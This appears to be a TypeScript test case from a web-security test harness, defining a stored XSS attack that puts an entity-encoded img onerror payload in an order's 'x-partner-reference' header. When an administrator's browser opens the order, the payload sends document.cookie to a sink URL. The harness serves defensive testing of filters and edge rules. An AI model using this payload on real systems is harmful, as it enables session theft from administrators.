import type { Attack } from "../attack.ts";
import { receiptTwin } from "./shared/receipt.ts";
import { order, post } from "./shared/requests.ts";
import { storedScript } from "./shared/stored-script.ts";

export const xssHeader: Attack = {
  id: "xss-header",
  title: "Run a script in the administrator's browser by a header of an order (XSS, its script in entities)",
  owasp: ["SAS-7", "CWE-79"],
  paper: "IV.1.D",
  defences: ["edge:script", "edge:patterns"],
  unread: "prod reads no reference from a header",
  operation: "placeOrder",
  target: "orders",
  needs: "browser",
  run: (context) =>
    storedScript(context, (token) => {
      // A browser undoes the entities of an attribute before it runs it.
      const script = `&#102;etch(&quot;${context.sink.url}/${token}?&quot;+document&#46;cookie)`;
      const { lines } = order();
      const request = post(context, "alice", "/orders", { lines });
      return { ...request, headers: { ...request.headers, "x-partner-reference": `<img src=x onerror="${script}">` } };
    }),
  twin: (context) => receiptTwin(context, "carol", {}, context.seed.acme.note),
};
